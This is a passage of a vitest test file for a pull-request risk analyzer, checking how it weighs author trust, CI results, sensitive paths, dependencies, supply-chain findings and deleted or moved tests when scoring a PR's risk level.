import { describe, expect, it } from 'vitest';
import { analyzeContributors } from '../../src/analyzers/contributors.js';
import { analyzeEvidence } from '../../src/analyzers/evidence.js';
import { analyzeFocus } from '../../src/analyzers/focus.js';
import { analyzeRisk, levelForScore, trustedRoutine } from '../../src/analyzers/risk.js';
import { editsOnlyCommands, misplacedDependabotConfig, onlyActionRefsChanged, onlyBuildArgVersionsMoved, onlyImageTagsMoved, onlyToolVersionMoved } from '../../src/analyzers/sensitive-changes.js';
import type { RepoConfig } from '../../src/repo-config/schema.js';
import { DEFAULT_CONFIG, RepoConfig as RepoConfigSchema } from '../../src/repo-config/schema.js';
import type { SupplyChainSection } from '../../src/signal/schema.js';
import { RiskSection } from '../../src/signal/schema.js';
import type { PrSnapshot } from '../../src/snapshot/pr-snapshot.js';
import { makeContext, makeCheckRun, makeFile, makeSnapshot, makeSupplyChain, makeTestFinding } from '../support/snapshot-factory.js';

function risk(snapshot: PrSnapshot, supplyChain: SupplyChainSection = makeSupplyChain(), config: RepoConfig = DEFAULT_CONFIG) {
  const ctx = makeContext(config, snapshot);
  const result = analyzeRisk(snapshot, ctx, {
    contributors: analyzeContributors(snapshot, ctx),
    evidence: analyzeEvidence(snapshot, ctx),
    supplyChain,
    focus: analyzeFocus(snapshot, ctx),
  });
  RiskSection.parse(result);
  return result;
}

const green = [makeCheckRun('build'), makeCheckRun('test')];

describe('levelForScore', () => {
  it('uses the thresholds as lower bounds', () => {
    const t = { medium: 0.25, high: 0.5, critical: 0.75 };
    expect([0, 0.24, 0.25, 0.49, 0.5, 0.74, 0.75, 1].map((s) => levelForScore(s, t))).toEqual(['low', 'low', 'medium', 'medium', 'high', 'high', 'critical', 'critical']);
  });
});

describe('analyzeRisk', () => {
  it("rates a trusted owner's small docs-only PR with green CI low, with no drivers", () => {
    const snapshot = makeSnapshot({ authorAssociation: 'OWNER', files: [makeFile('README.md', { additions: 12, deletions: 3 })], checkRuns: green });
    expect(risk(snapshot)).toEqual({ level: 'low', score: 0, drivers: [] });
  });

  it('cannot average a critical finding away', () => {
    const snapshot = makeSnapshot({ authorAssociation: 'OWNER', files: [makeFile('.github/workflows/ci.yml', { additions: 2, deletions: 1 })], checkRuns: green });
    const result = risk(snapshot, makeSupplyChain({ findings: [makeTestFinding({ id: 'gha-pr-target-checkout', severity: 'critical', title: 'pull_request_target checks out the PR head', path: '.github/workflows/ci.yml', line: 12 })] }));
    expect(result.level).toEqual('critical');
    expect(result.drivers[0]).toEqual({
      id: 'finding:gha-pr-target-checkout',
      title: 'pull_request_target checks out the PR head',
      detail: 'critical severity: Something a reviewer should look at.',
      weight: 0.9,
      floor: 'critical',
      evidence: ['.github/workflows/ci.yml:12'],
    });
  });

  it('raises a high finding to at least high even with a low score, and groups repeats of one id', () => {
    const snapshot = makeSnapshot({ authorAssociation: 'OWNER', files: [makeFile('package.json')], checkRuns: green });
    const findings = [
      makeTestFinding({ id: 'npm-install-script', severity: 'medium', package: 'a' }),
      makeTestFinding({ id: 'npm-install-script', severity: 'high', package: 'b', title: 'Install script' }),
    ];
    const config = RepoConfigSchema.parse({ risk_thresholds: { medium: 0.7, high: 0.8, critical: 0.9 } });
    const result = risk(snapshot, makeSupplyChain({ findings }), config);
    expect(result.level).toEqual('high');
    expect(result.score).toEqual(0.6);
    expect(result.drivers.map((d) => [d.id, d.title, d.weight, d.floor, d.evidence])).toEqual([
      ['finding:npm-install-script', 'Install script', 0.6, 'high', ['package.json', 'a', 'b']],
    ]);
  });

  it('combines independent drivers with noisy-OR and sorts them by weight', () => {
    const snapshot = makeSnapshot({
      author: { login: 'newbie', type: 'User' },
      authorAssociation: 'FIRST_TIME_CONTRIBUTOR',
      profiles: { newbie: { login: 'newbie', type: 'User', name: null, createdAt: '2024-06-01T00:00:00Z', publicRepos: 1, followers: 0 } },
      priorPrs: { newbie: { total: 1, merged: 0 } },
      files: [makeFile('src/auth/jwt.ts', { additions: 40, deletions: 5 })],
      checkRuns: [makeCheckRun('build', { conclusion: 'failure' })],
    });
    const result = risk(snapshot);
    expect(result.drivers.map((d) => [d.id, d.weight, d.floor])).toEqual([
      ['sensitive-paths', 0.4, null],
      ['author-trust', 0.3, null],
      ['ci-failing', 0.2, null],
      ['tests-missing', 0.1, null],
    ]);
    // 1 - (0.6 x 0.7 x 0.8 x 0.9) = 0.698: high by score, but soft drivers alone stay medium.
    expect(result.score).toEqual(0.7);
    expect(result.level).toEqual('medium');
    expect(result.drivers[1]?.detail).toEqual('newbie: first contribution to this repository; no earlier pull requests in this repository; account created 14 days ago.');
  });

  it("weighs a first contribution from an established account less than one from a new account", () => {
    const firstTimer = (login: string, createdAt: string) =>
      makeSnapshot({
        author: { login, type: 'User' },
        authorAssociation: 'FIRST_TIME_CONTRIBUTOR',
        profiles: { [login]: { login, type: 'User', name: null, createdAt, publicRepos: 4, followers: 1 } },
        priorPrs: { [login]: { total: 1, merged: 0 } },
        files: [makeFile('src/parse.ts', { additions: 4, deletions: 1 }), makeFile('test/parse.test.ts', { additions: 12, deletions: 0 })],
        checkRuns: green,
      });
    // An account years old opening its first PR here: the history is missing, not suspicious.
    const established = risk(firstTimer('longtime-user', '2019-03-01T00:00:00Z'));
    expect(established.drivers.map((d) => [d.id, d.weight])).toEqual([['author-trust', 0.2]]);
    expect(established.level).toEqual('low');
    // The same change from an account created weeks ago: the throwaway-account shape, in full.
    const fresh = risk(firstTimer('fresh-account', '2024-06-01T00:00:00Z'));
    expect(fresh.drivers.map((d) => [d.id, d.weight])).toEqual([['author-trust', 0.3]]);
    expect(fresh.level).toEqual('medium');
  });

  describe('a first contribution that is only large (verdict rule first-contribution-effort-only)', () => {
    const code = (n: number) => `@@ -1,0 +1,${n} @@\n${Array.from({ length: n }, (_, i) => `+export const step${i} = compute(${i});`).join('\n')}\n`;
    const firstTimer = (createdAt: string, files: ReturnType<typeof makeFile>[], checkRuns = green) =>
      makeSnapshot({
        author: { login: 'longtime-user', type: 'User' },
        authorAssociation: 'FIRST_TIME_CONTRIBUTOR',
        profiles: { 'longtime-user': { login: 'longtime-user', type: 'User', name: null, createdAt, publicRepos: 4, followers: 1 } },
        priorPrs: { 'longtime-user': { total: 1, merged: 0 } },
        files,
        checkRuns,
      });
    const OLD = '2019-03-01T00:00:00Z';
    const tested = [makeFile('src/events/debounce.ts', { additions: 160, deletions: 0, patch: code(160) }), makeFile('test/events/debounce.test.ts', { additions: 120, deletions: 0, patch: code(120) })];

    it('rates a tested feature, or tests alone, low from an established account: size is effort', () => {
      const feature = risk(firstTimer(OLD, tested));
      expect(feature.drivers.map((d) => [d.id, d.weight])).toEqual([['author-trust', 0.2], ['size', 0.1]]);
      expect(feature.score).toBeGreaterThanOrEqual(0.25);
      expect(feature.level).toBe('low');
      const migration = risk(firstTimer(OLD, Array.from({ length: 25 }, (_, i) => makeFile(`test/types/case-${i}.test-d.ts`, { additions: 40, deletions: 40, patch: code(40) }))));
      expect(migration.drivers.map((d) => d.id)).toEqual(['size', 'author-trust']);
      expect(migration.level).toBe('low');
      // A few untested lines beside it (a re-export, a version constant) do not change that.
      expect(risk(firstTimer(OLD, [...tested, makeFile('src/index.ts', { additions: 2, deletions: 0, patch: code(2) })])).level).toBe('low');
    });

    it('keeps it medium from a new account, with an untested change, a sensitive path, a low finding, a dependency or a check not passed', () => {
      expect(risk(firstTimer('2024-06-01T00:00:00Z', tested)).level, 'new account').toBe('medium');
      expect(risk(firstTimer(OLD, [makeFile('src/events/debounce.ts', { additions: 160, deletions: 0, patch: code(160) })])).level, 'untested').toBe('medium');
      expect(risk(firstTimer(OLD, [...tested, makeFile('src/auth/login.ts', { additions: 20, deletions: 2, patch: code(20) })])).level, 'login code').toBe('medium');
      expect(risk(firstTimer(OLD, tested), makeSupplyChain({ findings: [makeTestFinding({ severity: 'low', path: 'src/events/debounce.ts' })] })).level, 'low finding').toBe('medium');
      const withDependency = makeSupplyChain({ new_dependencies: [{ ecosystem: 'npm', name: 'left-pad', version: '1.3.0', manifest: 'package.json', dev: false }] as never });
      expect(risk(firstTimer(OLD, tested), withDependency).level, 'new dependency').toBe('medium');
      expect(risk(firstTimer(OLD, tested, [makeCheckRun('build'), makeCheckRun('test', { conclusion: 'failure' })])).level, 'failing check').toBe('medium');
      expect(risk(firstTimer(OLD, tested, [])).level, 'no CI').toBe('medium');
    });
  });

  it('floors failing required checks at medium and reports missing required checks', () => {
    const config = RepoConfigSchema.parse({ required_checks: ['build', 'deploy'] });
    const snapshot = makeSnapshot({ authorAssociation: 'OWNER', files: [makeFile('README.md')], checkRuns: [makeCheckRun('build', { conclusion: 'timed_out' })] });
    const result = risk(snapshot, makeSupplyChain(), config);
    expect(result.drivers.map((d) => [d.id, d.title, d.weight, d.floor, d.evidence])).toEqual([
      ['ci-failing', 'Required checks are failing', 0.35, 'medium', ['build']],
      ['ci-required-missing', 'Required checks did not report', 0.2, null, ['deploy']],
    ]);
    // 1 - 0.65 x 0.8 = 0.48
    expect(result.score).toEqual(0.48);
    expect(result.level).toEqual('medium');
  });

  it('distinguishes no CI from unreadable CI', () => {
    const files = [makeFile('README.md')];
    expect(risk(makeSnapshot({ files })).drivers.map((d) => [d.id, d.weight])).toEqual([['ci-missing', 0.2]]);
    expect(risk(makeSnapshot({ files, checkRuns: null, statuses: null })).drivers.map((d) => [d.id, d.weight])).toEqual([['ci-unknown', 0.15]]);
  });

  it('reports deleted tests, binaries, new dependencies, vulnerabilities and size', () => {
    const files = [
      makeFile('test/a.test.ts', { status: 'removed', additions: 0, deletions: 50 }),
      makeFile('bin/helper.so', { status: 'added', additions: 0, deletions: 0 }),
    ];
    for (let i = 0; i < 25; i += 1) files.push(makeFile(`docs/page${i}.md`, { additions: 10, deletions: 0 }));
    const snapshot = makeSnapshot({ authorAssociation: 'OWNER', files, checkRuns: green });
    const supplyChain = makeSupplyChain({
      new_dependencies: [
        { ecosystem: 'npm', name: 'lodash', version: '4.17.20', manifest: 'package.json', dev: false, source: 'registry' },
        { ecosystem: 'npm', name: 'vitest', version: '1.0.0', manifest: 'package.json', dev: true, source: 'registry' },
      ],
      vulnerabilities: [{ ecosystem: 'npm', name: 'lodash', version: '4.17.20', severity: 'moderate', advisory: 'GHSA-xxxx', summary: 'Prototype pollution', url: 'https://github.com/advisories/GHSA-xxxx' }],
    });
    const result = risk(snapshot, supplyChain);
    expect(result.drivers.map((d) => [d.id, d.weight, d.floor])).toEqual([
      ['binaries', 0.3, 'medium'],
      ['vulnerable-dependencies', 0.3, 'medium'],
      ['tests-deleted', 0.25, null],
      ['size', 0.1, null],
      ['new-dependencies', 0.07, null],
    ]);
    expect(result.drivers.find((d) => d.id === 'binaries')?.evidence).toEqual(['bin/helper.so']);
  });

  it('does not weigh an empty file or a Python package marker that defines no test deleted from a test folder; a marker defining a test still weighs (calib50)', () => {
    const ids = (files: ReturnType<typeof makeFile>[]) => risk(makeSnapshot({ authorAssociation: 'OWNER', files, checkRuns: green })).drivers.map((d) => d.id);
    // Modeled on a validation library's test suite moved under tests/: its empty package markers removed.
    expect(ids([makeFile('core/tests/__init__.py', { status: 'removed', additions: 0, deletions: 0, patch: null }), makeFile('core/tests/serializers/__init__.py', { status: 'removed', additions: 0, deletions: 0, patch: null })])).not.toContain('tests-deleted');
    const marker = ['@@ -1,3 +0,0 @@', '-"""Tests of the core validators."""', '-', '-from .helpers import make_schema  # noqa: F401'].join('\n');
    expect(ids([makeFile('tests/validators/__init__.py', { status: 'removed', additions: 0, deletions: 3, patch: marker })])).not.toContain('tests-deleted');
    // A package marker that defines tests, and a test module whose patch GitHub left out, still weigh.
    const withTest = ['@@ -1,2 +0,0 @@', '-def test_import():', '-    import core'].join('\n');
    expect(ids([makeFile('tests/__init__.py', { status: 'removed', additions: 0, deletions: 2, patch: withTest })])).toContain('tests-deleted');
    const caseClass = ['@@ -1,2 +0,0 @@', '-class ImportCase(unittest.TestCase):', '-    pass'].join('\n');
    expect(ids([makeFile('tests/__init__.py', { status: 'removed', additions: 0, deletions: 2, patch: caseClass })])).toContain('tests-deleted');
    expect(ids([makeFile('tests/test_parse.py', { status: 'removed', additions: 0, deletions: 4, patch: null })])).toContain('tests-deleted');
  });
  it('does not weigh a dependency manifest a test folder holds (test requirements moved into a dependency group); a test beside it still weighs', () => {
    const ids = (files: ReturnType<typeof makeFile>[]) => risk(makeSnapshot({ authorAssociation: 'OWNER', files, checkRuns: green })).drivers.map((d) => d.id);
    const reqs = ['@@ -1,3 +0,0 @@', '-pytest', '-scripttest', '-virtualenv'].join('\n');
    expect(ids([makeFile('tests/requirements.txt', { status: 'removed', additions: 0, deletions: 3, patch: reqs }), makeFile('tests/requirements-common_wheels.txt', { status: 'removed', additions: 0, deletions: 1, patch: '@@ -1,1 +0,0 @@\n-setuptools' }), makeFile('tests/data/src/sample/setup.cfg', { status: 'removed', additions: 0, deletions: 2, patch: '@@ -1,2 +0,0 @@\n-[metadata]\n-name = sample' })])).not.toContain('tests-deleted');
    expect(ids([makeFile('tests/requirements.txt', { status: 'removed', additions: 0, deletions: 3, patch: reqs }), makeFile('tests/test_install.py', { status: 'removed', additions: 0, deletions: 2, patch: '@@ -1,2 +0,0 @@\n-def test_install():\n-    assert run()' })])).toContain('tests-deleted');
  });
  it('does not weigh a deleted test whose cases the PR moves into another file, nor the test of a source file it deletes; a test deleted alone still weighs', () => {
    const cases = ['def test_parse_host():', '    assert urlparse("https://a.example/").host == "a.example"', 'def test_parse_port():', '    assert urlparse("https://a.example:8080/").port == 8080'];
    const removedPatch = ['@@ -1,4 +0,0 @@', ...cases.map((l) => `-${l}`)].join('\n');
    const addedPatch = ['@@ -10,1 +10,5 @@', ' import httpx', ...cases.map((l) => `+${l}`)].join('\n');
    const ids = (files: ReturnType<typeof makeFile>[]) => risk(makeSnapshot({ authorAssociation: 'OWNER', files, checkRuns: green })).drivers.map((d) => d.id);
    // Moved into test_url.py (httpx's "Moving test cases into 'test_url.py'").
    expect(ids([makeFile('tests/test_urlparse.py', { status: 'removed', additions: 0, deletions: 4, patch: removedPatch }), makeFile('tests/test_url.py', { additions: 4, deletions: 0, patch: addedPatch })])).not.toContain('tests-deleted');
    // Deleted with nothing to show where the cases went, or only half of them moved.
    expect(ids([makeFile('tests/test_urlparse.py', { status: 'removed', additions: 0, deletions: 4, patch: removedPatch })])).toContain('tests-deleted');
    const half = ['@@ -10,1 +10,3 @@', ' import httpx', ...cases.slice(0, 2).map((l) => `+${l}`)].join('\n');
    expect(ids([makeFile('tests/test_urlparse.py', { status: 'removed', additions: 0, deletions: 4, patch: removedPatch }), makeFile('tests/test_url.py', { additions: 2, deletions: 0, patch: half })])).toContain('tests-deleted');
    // Each added line counts once for a deleted file: a line the test repeats four times is not moved by one copy of it.
    const same = '    assert urlparse("https://a.example/").host == "a.example"';
    const repeated = ['@@ -1,4 +0,0 @@', ...Array.from({ length: 4 }, () => `-${same}`)].join('\n');
    const once = ['@@ -10,1 +10,2 @@', ' import httpx', `+${same}`].join('\n');
    const fourTimes = ['@@ -10,1 +10,5 @@', ' import httpx', ...Array.from({ length: 4 }, () => `+${same}`)].join('\n');
    expect(ids([makeFile('tests/test_urlparse.py', { status: 'removed', additions: 0, deletions: 4, patch: repeated }), makeFile('tests/test_url.py', { additions: 1, deletions: 0, patch: once })])).toContain('tests-deleted');
    expect(ids([makeFile('tests/test_urlparse.py', { status: 'removed', additions: 0, deletions: 4, patch: repeated }), makeFile('tests/test_url.py', { additions: 4, deletions: 0, patch: fourTimes })])).not.toContain('tests-deleted');
    // Moved into a file that already imports what the cases need, under a new name (calib42: a packaging
    // library's "move test into correct test file"): the old file's imports do not come back, and need not.
    const moved = ['@pytest.mark.parametrize(', '    ("requires_python", "expected"),', '    [(">=3.8", ">=3.8"), (None, "")],', ')', '    package = ProjectPackage("foo", "1")', '    package.requires_python = requires_python', '    meta = Metadata.from_package(package)', '    assert meta.requires_python == expected'];
    const imports = ['from __future__ import annotations', 'import pytest', 'from wheelwright.core.masonry.metadata import Metadata', 'from wheelwright.core.packages.project_package import ProjectPackage'];
    const oldFile = ['@@ -1,14 +0,0 @@', ...[...imports, ...moved.slice(0, 4), 'def test_requires_python(requires_python, expected):', ...moved.slice(4)].map((l) => `-${l}`)].join('\n');
    const newHome = ['@@ -13,2 +13,11 @@', ' if TYPE_CHECKING:', '     from pytest_mock import MockerFixture', ...[...moved.slice(0, 4), 'def test_from_package_requires_python(requires_python, expected):', ...moved.slice(4)].map((l) => `+${l}`)].join('\n');
    expect(ids([makeFile('tests/masonry/builders/test_metadata.py', { status: 'removed', additions: 0, deletions: 14, patch: oldFile }), makeFile('tests/masonry/test_metadata.py', { additions: 9, deletions: 0, patch: newHome })])).not.toContain('tests-deleted');
    // Its imports alone coming back are no move: the cases went nowhere.
    const importsOnly = ['@@ -1,1 +1,5 @@', ' import os', ...imports.map((l) => `+${l}`)].join('\n');
    expect(ids([makeFile('tests/masonry/builders/test_metadata.py', { status: 'removed', additions: 0, deletions: 14, patch: oldFile }), makeFile('tests/masonry/test_metadata.py', { additions: 4, deletions: 0, patch: importsOnly })])).toContain('tests-deleted');
    // The tests of a class the PR deletes (okhttp's "Delete Relay"): the code they tested is gone.
    const relay = [
      makeFile('okhttp/src/main/kotlin/okhttp3/internal/cache2/Relay.kt', { status: 'removed', additions: 0, deletions: 120 }),
      makeFile('okhttp/src/test/kotlin/okhttp3/internal/cache2/RelayTest.kt', { status: 'removed', additions: 0, deletions: 80 }),
    ];
    expect(ids(relay)).not.toContain('tests-deleted');
    expect(ids([...relay, makeFile('okhttp/src/test/kotlin/okhttp3/internal/cache2/FileOperatorTest.kt', { status: 'removed', additions: 0, deletions: 60 })])).toContain('tests-deleted');
    expect(ids([makeFile('src/auth/session.ts', { additions: 3, deletions: 1 }), makeFile('test/session.test.ts', { status: 'removed', additions: 0, deletions: 40 })])).toContain('tests-deleted');
    // A test folder's file named as its subject, without a test affix (AVA's test/url-to-options.ts), deleted with it.
    const helper = makeFile('source/core/utils/url-to-options.ts', { status: 'removed', additions: 0, deletions: 43 });
    expect(ids([helper, makeFile('test/url-to-options.ts', { status: 'removed', additions: 0, deletions: 160 })])).not.toContain('tests-deleted');
    // A generic name ties nothing: test/index.ts or test/utils.ts may test anything.
    expect(ids([makeFile('source/utils.ts', { status: 'removed', additions: 0, deletions: 20 }), makeFile('test/utils.ts', { status: 'removed', additions: 0, deletions: 60 })])).toContain('tests-deleted');
    expect(ids([helper, makeFile('test/redirects.ts', { status: 'removed', additions: 0, deletions: 60 })])).toContain('tests-deleted');
    // A type test (tsd's and Vitest's `*.test-d.ts`) of a module the PR deletes (execa's "Debounce `message` events" removed lib/ipc/exchange.js and test-d/ipc/exchange.test-d.ts).
    const exchange = makeFile('lib/ipc/exchange.js', { status: 'removed', additions: 0, deletions: 43 });
    expect(ids([exchange, makeFile('test-d/ipc/exchange.test-d.ts', { status: 'removed', additions: 0, deletions: 65 })])).not.toContain('tests-deleted');
    expect(ids([exchange, makeFile('test-d/ipc/message.test-d.ts', { status: 'removed', additions: 0, deletions: 28 })])).toContain('tests-deleted');
  });

  it('does not weigh a test of a deprecation the PR removes from the program; a test of code that stays, or with no deprecation said, still weighs (calib37)', () => {
    const ids = (files: ReturnType<typeof makeFile>[]) => risk(makeSnapshot({ authorAssociation: 'OWNER', files, checkRuns: green })).drivers.map((d) => d.id);
    const patchOf = (sign: '+' | '-', rows: string[]) => [sign === '-' ? `@@ -1,${rows.length} +0,0 @@` : `@@ -0,0 +1,${rows.length} @@`, ...rows.map((r) => `${sign}${r}`)].join('\n');
    // Starlette's "Remove deprecated WS_1004_NO_STATUS_RCVD and WS_1005_ABNORMAL_CLOSURE".
    const statusRemoved = ['__deprecated__ = {"WS_1004_NO_STATUS_RCVD": 1004, "WS_1005_ABNORMAL_CLOSURE": 1005}', '', 'def __getattr__(name: str) -> int:', '    deprecated = __deprecated__.get(name)', '    if deprecated:', '        warnings.warn(f"{name} is deprecated.", category=DeprecationWarning, stacklevel=3)', '        return deprecated'];
    const source = makeFile('starlette/status.py', { additions: 0, deletions: statusRemoved.length, patch: patchOf('-', statusRemoved) });
    const testRows = ['import importlib', 'import pytest', '', '@pytest.mark.parametrize("constant", ["WS_1004_NO_STATUS_RCVD", "WS_1005_ABNORMAL_CLOSURE"])', 'def test_deprecated_types(constant: str) -> None:', '    with pytest.warns(DeprecationWarning):', '        getattr(importlib.import_module("starlette.status"), constant)'];
    const test = makeFile('tests/test_status.py', { status: 'removed', additions: 0, deletions: testRows.length, patch: patchOf('-', testRows) });
    expect(ids([source, test])).not.toContain('tests-deleted');
    // The test alone, or beside a source edit that removes no deprecation: weighed.
    expect(ids([test])).toContain('tests-deleted');
    const plain = statusRemoved.filter((r) => !/deprecat/i.test(r) && !r.includes('DeprecationWarning'));
    expect(ids([makeFile('starlette/status.py', { additions: 0, deletions: plain.length, patch: patchOf('-', [...plain, 'WS_1004_NO_STATUS_RCVD = 1004']) }), test])).toContain('tests-deleted');
    // The name added back elsewhere (kept under another spelling of the code): the test checked code that stays.
    expect(ids([source, makeFile('starlette/websockets.py', { additions: 2, deletions: 0, patch: patchOf('+', ['WS_1004_NO_STATUS_RCVD = 1005', 'WS_1005_ABNORMAL_CLOSURE = 1006']) }), test])).toContain('tests-deleted');
    // A test that names nothing the PR removes, or that says nothing of a deprecation: weighed.
    const other = ['def test_login_rejects_bad_token(client):', '    assert client.get("/me", headers={"Authorization": "Bearer x"}).status_code == 401'];
    expect(ids([source, makeFile('tests/test_auth.py', { status: 'removed', additions: 0, deletions: other.length, patch: patchOf('-', other) })])).toContain('tests-deleted');
    const noDeprecation = ['def test_close_codes():', '    assert status.WS_1004_NO_STATUS_RCVD == 1004'];
    expect(ids([source, makeFile('tests/test_codes.py', { status: 'removed', additions: 0, deletions: noDeprecation.length, patch: patchOf('-', noDeprecation) })])).toContain('tests-deleted');
    // The removed lines of another test are no program code: a deprecation removed only from tests does not count.
    expect(ids([makeFile('tests/test_helpers.py', { additions: 0, deletions: statusRemoved.length, patch: patchOf('-', statusRemoved) }), test])).toContain('tests-deleted');
  });

  it("does not weigh a C# test named for a member the PR removes under [Obsolete]; another name, a member kept, or a test that silences no obsolete warning still weighs (calib57)", () => {
    const ids = (files: ReturnType<typeof makeFile>[]) => risk(makeSnapshot({ authorAssociation: 'OWNER', files, checkRuns: green })).drivers.map((d) => d.id);
    const patchOf = (sign: '+' | '-', rows: string[]) => [sign === '-' ? `@@ -1,${rows.length} +0,0 @@` : `@@ -0,0 +1,${rows.length} @@`, ...rows.map((r) => `${sign}${r}`)].join('\n');
    // Modeled on a validation library's "Remove deprecated Transform methods": AbstractValidator.cs loses two [Obsolete] overloads, TransformTests.cs goes with them.
    const memberRows = ['\t/// <summary>Defines a rule for a property transformed to another type.</summary>', '\t[Obsolete("Use a computed property on your model instead.")]', '\tpublic IRuleBuilderInitial<T, TOut> Transform<TProperty, TOut>(Expression<Func<T, TProperty>> from, Func<TProperty, TOut> to) {', '\t\tvar rule = PropertyRule<T, TOut>.Create(from, to);', '\t\treturn new RuleBuilder<T, TOut>(rule, this);', '\t}'];
    const source = makeFile('src/Checks/AbstractValidator.cs', { additions: 0, deletions: memberRows.length, patch: patchOf('-', memberRows) });
    const testRows = ['namespace Checks.Tests;', '', '#pragma warning disable CS0618', '', 'public class TransformTests {', '\t[Fact]', '\tpublic void Transforms_property_value() {', '\t\tvar validator = new InlineValidator<Person>();', '\t\tvalidator.Transform(x => x.Surname, name => "foo" + name).Equal("foobar");', '\t\tvalidator.Validate(new Person { Surname = "bar" }).IsValid.ShouldBeTrue();', '\t}', '}'];
    const test = makeFile('src/Checks.Tests/TransformTests.cs', { status: 'removed', additions: 0, deletions: testRows.length, patch: patchOf('-', testRows) });
    expect(ids([source, test])).not.toContain('tests-deleted');
    // Another test's name, the member kept under the same name elsewhere, or a test that silences no obsolete warning: weighed.
    expect(ids([source, makeFile('src/Checks.Tests/ForEachTests.cs', { status: 'removed', additions: 0, deletions: testRows.length, patch: patchOf('-', testRows) })])).toContain('tests-deleted');
    expect(ids([source, makeFile('src/Checks/RuleExtensions.cs', { additions: 1, deletions: 0, patch: patchOf('+', ['\tpublic static IRuleBuilder<T, TOut> Transform<T, TOut>(this IRuleBuilder<T, TOut> rule) => rule;']) }), test])).toContain('tests-deleted');
    const silent = testRows.filter((r) => !r.includes('CS0618'));
    expect(ids([source, makeFile('src/Checks.Tests/TransformTests.cs', { status: 'removed', additions: 0, deletions: silent.length, patch: patchOf('-', silent) })])).toContain('tests-deleted');
    // The member removed without a deprecation marker above it: weighed.
    const unmarked = memberRows.filter((r) => !r.includes('Obsolete'));
    expect(ids([makeFile('src/Checks/AbstractValidator.cs', { additions: 0, deletions: unmarked.length, patch: patchOf('-', [...unmarked, '\t// Deprecated overloads of Must live in MustExtensions.']) }), test])).toContain('tests-deleted');
  });

  it('does not weigh a JavaScript test whose every import of the project names only definitions the PR removes from that module; a name kept, brought back or imported whole still weighs (calib55)', () => {
    const ids = (files: ReturnType<typeof makeFile>[]) => risk(makeSnapshot({ authorAssociation: 'OWNER', files, checkRuns: green })).drivers.map((d) => d.id);
    const patchOf = (sign: '+' | '-', rows: string[]) => [sign === '-' ? `@@ -1,${rows.length} +0,0 @@` : `@@ -0,0 +1,${rows.length} @@`, ...rows.map((r) => `${sign}${r}`)].join('\n');
    // Modeled on a CLI library's "Use node:util stripVTControlCharacters instead of own code".
    const helpPatch = (added: string[]) => ['@@ -1,3 +1,3 @@', " import { humanReadableArgName } from './argument.js';", "+import { stripVTControlCharacters } from 'node:util';", ...added.map((r) => `+${r}`), '@@ -720,10 +721,2 @@', '   }', ' }', '-', '-export function stripColor(str) {', "-  const sgrPattern = /\\x1b\\[\\d*(;\\d*)*m/g;", "-  return str.replace(sgrPattern, '');", '-}'].join('\n');
    const help = makeFile('lib/help.js', { additions: 1, deletions: 5, patch: helpPatch([]) });
    // Another module keeps a property of that name: a word on an added line of another file brings nothing back.
    const command = makeFile('lib/command.js', { additions: 2, deletions: 2, patch: ['@@ -5,4 +5,4 @@', "-import { Help, stripColor } from './help.js';", "+import { Help } from './help.js';", '-      stripColor: (str) => stripColor(str),', '+      stripColor: (str) => stripVTControlCharacters(str),'].join('\n') });
    const testRows = (imports: string[]) => [...imports, "import { test, describe } from 'node:test';", "import assert from 'node:assert/strict';", '', "describe('internal stripColor()', () => {", "  test('SGR only', () => {", "    assert.equal(stripColor('\\u001b[4m'), '');", '  });', '});'];
    const test = (imports: string[]) => makeFile('tests/help.stripAnsi.test.js', { status: 'removed', additions: 0, deletions: testRows(imports).length, patch: patchOf('-', testRows(imports)) });
    expect(ids([help, command, test(["import { stripColor } from '../lib/help.js';"])])).not.toContain('tests-deleted');
    // CommonJS destructuring, the same.
    expect(ids([help, command, test(["const { stripColor } = require('../lib/help');"])])).not.toContain('tests-deleted');
    // The test alone, or the module bringing the name back (kept under another definition): weighed.
    expect(ids([test(["import { stripColor } from '../lib/help.js';"])])).toContain('tests-deleted');
    expect(ids([makeFile('lib/help.js', { additions: 2, deletions: 5, patch: helpPatch(['export const stripColor = (str) => stripVTControlCharacters(str);']) }), command, test(["import { stripColor } from '../lib/help.js';"])])).toContain('tests-deleted');
    // A name that stays, the module imported whole, a multi-line import, or another module's definition removed: weighed.
    expect(ids([help, command, test(["import { Help, stripColor } from '../lib/help.js';"])])).toContain('tests-deleted');
    expect(ids([help, command, test(["import { stripColor } from '../lib/help.js';", "const commander = require('../');"])])).toContain('tests-deleted');
    expect(ids([help, command, test(['import {', '  stripColor,', "} from '../lib/help.js';"])])).toContain('tests-deleted');
    expect(ids([help, command, test(["import { stripColor } from '../lib/option.js';"])])).toContain('tests-deleted');
    // Renamed or moved, not gone: its body added again under another name, or a one-line definition's text after the name on an added definition. The test checked code that stays.
    const renamedBody = makeFile('lib/ansi.js', { status: 'added', additions: 5, deletions: 0, patch: patchOf('+', ['export function stripSgr(str) {', '  // eslint-disable-next-line no-control-regex', '  const sgrPattern = /\\x1b\\[\\d*(;\\d*)*m/g;', "  return str.replace(sgrPattern, '');", '}']) });
    expect(ids([help, command, renamedBody, test(["import { stripColor } from '../lib/help.js';"])])).toContain('tests-deleted');
    const oneLine = makeFile('lib/auth.js', { additions: 1, deletions: 1, patch: ['@@ -3,1 +3,1 @@', '-export const isAllowed = (user, resource) => user.roles.includes(resource.role);', '+export const canAccess = (user, resource) => user.roles.includes(resource.role);'].join('\n') });
    const authRows = ["import { isAllowed } from '../lib/auth.js';", "test('admins pass', () => {", "  assert.ok(isAllowed({ roles: ['admin'] }, { role: 'admin' }));", '});'];
    const authTest = makeFile('tests/auth.test.js', { status: 'removed', additions: 0, deletions: authRows.length, patch: patchOf('-', authRows) });
    expect(ids([oneLine, authTest])).toContain('tests-deleted');
    // The same one-liner removed outright: gone, with its test.
    expect(ids([makeFile('lib/auth.js', { additions: 0, deletions: 1, patch: ['@@ -3,1 +2,0 @@', '-export const isAllowed = (user, resource) => user.roles.includes(resource.role);'].join('\n') }), authTest])).not.toContain('tests-deleted');
  });

  it('does not weigh the tests of an example project the PR deletes with its manifest; an example kept, or a manifest of the examples folder or a test folder, still weighs (calib55)', () => {
    const ids = (files: ReturnType<typeof makeFile>[]) => risk(makeSnapshot({ authorAssociation: 'OWNER', files, checkRuns: green })).drivers.map((d) => d.id);
    // Modeled on a CLI library's "Remove jest esm examples".
    const spec = makeFile('examples/using-esm/jest-javascript/index.spec.cjs', { status: 'removed', additions: 0, deletions: 9 });
    const manifest = makeFile('examples/using-esm/jest-javascript/package.json', { status: 'removed', additions: 0, deletions: 17 });
    expect(ids([manifest, makeFile('examples/using-esm/jest-javascript/README.md', { status: 'removed', additions: 0, deletions: 40 }), spec])).not.toContain('tests-deleted');
